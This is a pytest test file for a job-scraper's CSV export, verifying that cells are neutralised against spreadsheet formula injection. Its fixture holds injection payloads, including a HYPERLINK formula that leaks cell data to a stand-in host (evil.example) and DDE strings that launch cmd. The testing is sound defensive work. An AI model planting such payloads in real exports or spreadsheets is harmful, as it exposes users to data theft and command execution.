"""CSV exports are neutralised against formula injection (issue 13, item 9).

Third-party titles such as ``=HYPERLINK(…)``, ``+cmd|…`` or ``@SUM(…)`` went out as they came and a
spreadsheet ran them. Now a text cell starting with ``= + - @``, a tab or a carriage return gets a
leading ``'`` (OWASP); ``--raw`` keeps cells verbatim; ``import`` reads both back to the same value.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from jobscraper.exports import export_jobs, neutralise_cell, restore_cell
from jobscraper.imports import RowError, open_postings
from jobscraper.store import Database, SyncEngine, UserUpdate, open_database
from tests.cli_inprocess import Cli
from tests.postings import posting_dict

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "company": "+cmd|' /C calc'!A0",
    "location": "@SUM(1+9)*cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
}
NOTES = "\t=1+1 (my note)"  # a user's own text keeps its leading tab: it is quoted too
QUOTED_TITLE = "'=already quoted"  # a value that itself starts with a quote before a formula


@pytest.fixture
def hostile_db(tmp_path: Path) -> Iterator[Database]:
    db = open_database(tmp_path / "jobs.db")
    sync = SyncEngine(db)
    sync.upsert([posting_dict(1, **HOSTILE), posting_dict(2, title=QUOTED_TITLE), posting_dict(3)])
    sync.update_user_fields(1, UserUpdate(notes=NOTES))
    yield db
    db.dispose()


def _csv(db: Database, *, raw: bool = False) -> list[dict[str, str]]:
    buf = io.StringIO(newline="")
    export_jobs(db, buf, fmt="csv", raw=raw)
    return list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))


def test_formula_cells_are_quoted(hostile_db: Database) -> None:
    rows = {r["id"]: r for r in _csv(hostile_db)}
    hostile = rows["1"]
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value, column
    assert hostile["notes"] == "'" + NOTES
    assert rows["2"]["title"] == "''=already quoted"
    assert rows["3"]["title"] == "Software Engineer 3"  # ordinary text is untouched
    assert hostile["job_url"].startswith("https://")
    # no cell of any row starts a formula any more
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)


def test_raw_keeps_cells_verbatim(hostile_db: Database) -> None:
    hostile = next(r for r in _csv(hostile_db, raw=True) if r["id"] == "1")
    for column, value in HOSTILE.items():
        assert hostile[column] == value, column


def test_numbers_stay_numbers() -> None:
    assert neutralise_cell("60000.0") == "60000.0"
    assert restore_cell("'-5") == "-5" and neutralise_cell("-5") == "'-5"


@pytest.mark.parametrize(
    "value", ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", "", "'", "a=b"]
)
def test_neutralise_then_restore_is_the_identity(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("raw", [False, True], ids=["neutralised", "raw"])
def test_both_forms_import_back_to_the_same_values(
    hostile_db: Database, cli: Cli, tmp_path: Path, raw: bool
) -> None:
    out = tmp_path / "jobs.csv"
    exported = cli("export", "--out", out, *(["--raw"] if raw else []), "--db", hostile_db.path)
    assert exported.code == 0, exported.err

    postings = [item for _line, item in open_postings(out)]
    assert not any(isinstance(p, RowError) for p in postings), postings
    by_url = {p.job_url: p for p in postings if not isinstance(p, RowError)}
    first = by_url[posting_dict(1)["job_url"]]
    assert first.title == HOSTILE["title"]
    assert first.company == HOSTILE["company"]
    assert first.location == HOSTILE["location"]
    assert first.description == HOSTILE["description"]
    if not raw:  # a raw value that itself starts with "'=" is the one form that cannot round-trip
        assert by_url[posting_dict(2)["job_url"]].title == QUOTED_TITLE

    fresh = tmp_path / "fresh.db"
    imported = cli("import", out, "--db", fresh)
    assert imported.code == 0, imported.err
    again = open_database(fresh)
    try:
        titles = {r["title"] for r in _csv(again, raw=True)}
    finally:
        again.dispose()
    assert HOSTILE["title"] in titles
    if not raw:
        assert titles == {r["title"] for r in _csv(hostile_db, raw=True)}
